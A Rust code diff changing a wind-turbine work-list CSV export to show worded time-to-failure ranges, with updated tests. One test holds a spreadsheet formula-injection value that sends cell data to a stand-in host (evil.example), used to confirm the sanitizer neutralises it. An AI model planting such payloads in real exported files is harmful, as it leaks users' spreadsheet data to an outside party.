@@ -7,17 +7,8 @@
 //! `=HYPERLINK(…)` is written `'=HYPERLINK(…)`, shown as text); numbers are written as numbers.
 
 use cockpit_core::lang::{format_number, Lang};
-use cockpit_core::runs::queries::{FleetItem, FleetItemText};
+use cockpit_core::runs::queries::FleetItem;
 use cockpit_core::sanitize::spreadsheet_cell;
-
-/// Days to failure in a work-list cell: a plain number a spreadsheet can sort, or the core's
-/// words at the model's horizon ("> 30 days"); empty without an estimate.
-fn days_cell(item: &FleetItem, text: &FleetItemText, lang: Lang) -> String {
-    match item.ttf_days {
-        Some(d) if !item.ttf_censored => format_number(d, 1, lang),
-        _ => spreadsheet_cell(text.days.as_deref().unwrap_or_default()).into_owned(),
-    }
-}
 
 /// The work list as CSV text (see the module documentation for the format).
 pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Error> {
@@ -36,7 +27,7 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
             "category",
             "risk score",
             "failure within 7 days (%)",
-            "days to failure",
+            "time to failure",
             "why (main drivers)",
             "last data (UTC)",
             "scored as of (UTC)",
@@ -48,7 +39,7 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
             "catégorie",
             "score de risque",
             "panne sous 7 jours (%)",
-            "jours avant panne",
+            "délai avant panne",
             "pourquoi (principaux facteurs)",
             "dernières données (UTC)",
             "évaluée au (UTC)",
@@ -61,7 +52,9 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
             Some(r) => format!("{}{}{r}", text.category, lang.pick(": ", " : ")),
             None => text.drivers.join("; "),
         };
-        let days = days_cell(i, &text, lang);
+        // The core's words, whole days ("likely in 3 to 10 days"); empty when not scored.
+        let days =
+            spreadsheet_cell(text.time_to_failure.as_deref().unwrap_or_default()).into_owned();
         let cell = |t: &str| spreadsheet_cell(t).into_owned();
         w.write_record([
             (rank + 1).to_string(),
@@ -90,7 +83,11 @@ pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Erro
 mod tests {
     use super::*;
     use cockpit_core::risk::Category;
+    use cockpit_core::runs::queries::TimeToFailure;
     use cockpit_core::runs::Driver;
+    use cockpit_core::ttf::Distribution;
+
+    const H: [f64; 5] = [1.0, 3.0, 7.0, 14.0, 30.0];
 
     fn phrase(d: &Driver, lang: Lang) -> String {
         d.phrase(lang)
@@ -138,8 +135,10 @@ mod tests {
             risk_score: Some(81.25),
             category: Some(Category::Critical),
             p_fail_7d: Some(0.623),
-            ttf_days: Some(-2.5),
-            ttf_censored: false,
+            ttf: TimeToFailure::of(
+                true,
+                Distribution::new(&H, &[0.05, 0.2, 0.6, 0.95, 0.99]).as_ref(),
+            ),
             drivers: vec![driver("gearbox_oil", 61.2, 51.8, "°C")],
             model_reactions: Vec::new(),
             scored_at: "2026-11-27T23:50:00Z".into(),
@@ -153,7 +152,11 @@ mod tests {
     fn a_hostile_site_or_id_is_written_as_text_and_numbers_stay_numbers() {
         let site = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Lyon\")";
         for lang in [Lang::En, Lang::Fr] {
-            let csv = worklist_csv(&[item("-LYO-01", site)], lang).unwrap();
+            let negative = FleetItem {
+                p_fail_7d: Some(-0.025),
+                ..item("-LYO-01", site)
+            };
+            let csv = worklist_csv(&[negative], lang).unwrap();
             let delimiter = match lang {
                 Lang::En => b',',
                 Lang::Fr => b';',
@@ -164,22 +167,24 @@ mod tests {
             let row = reader.records().next().unwrap().unwrap();
             assert_eq!(&row[1], "'-LYO-01");
             assert_eq!(&row[2], format!("'{site}"));
-            for (i, cell) in row.iter().enumerate().filter(|(i, _)| *i != 6) {
+            for (i, cell) in row.iter().enumerate().filter(|(i, _)| *i != 5) {
                 assert!(
                     !cell.starts_with(cockpit_core::sanitize::FORMULA_STARTS),
                     "column {i} would run in a spreadsheet: {cell}"
                 );
             }
             // A negative number in a numeric column stays a number.
-            assert_eq!(&row[6], format_number(-2.5, 1, lang));
+            assert_eq!(&row[5], format_number(-2.5, 1, lang));
         }
     }
 
     #[test]
     fn csv_escapes_and_follows_the_language() {
         let item = FleetItem {
-            ttf_days: Some(30.0),
-            ttf_censored: true,
+            ttf: TimeToFailure::of(
+                true,
+                Distribution::new(&H, &[0.0, 0.0, 0.1, 0.2, 0.3]).as_ref(),
+            ),
             ..item("LYO-01; \"north\"", "Lyon")
         };
         let fr = worklist_csv(std::slice::from_ref(&item), Lang::Fr).unwrap();
@@ -188,11 +193,18 @@ mod tests {
         assert_eq!(lines.len(), 2);
         assert!(lines[0].starts_with("rang;éolienne;site;catégorie"));
         assert!(
-            lines[1].starts_with("1;\"LYO-01; \"\"north\"\"\";Lyon;critique;81,2;62,3;> 30 j;"),
+            lines[1].starts_with(
+                "1;\"LYO-01; \"\"north\"\"\";Lyon;critique;81,2;62,3;aucune panne attendue dans les 30 jours;"
+            ),
             "{}",
             lines[1]
         );
         let en = worklist_csv(&[item], Lang::En).unwrap();
-        assert!(en.contains(",critical,81.2,62.3,> 30 days,gearbox oil 9.4 °C above normal"));
+        assert!(en.contains(
+            ",critical,81.2,62.3,no failure expected within 30 days,gearbox oil 9.4 °C above normal"
+        ));
+        // A range in words, whole days: never a decimal day.
+        let ranged = worklist_csv(&[self::item("LYO-02", "Lyon")], Lang::En).unwrap();
+        assert!(ranged.contains(",likely in 1 to 13 days,"), "{ranged}");
     }
 }
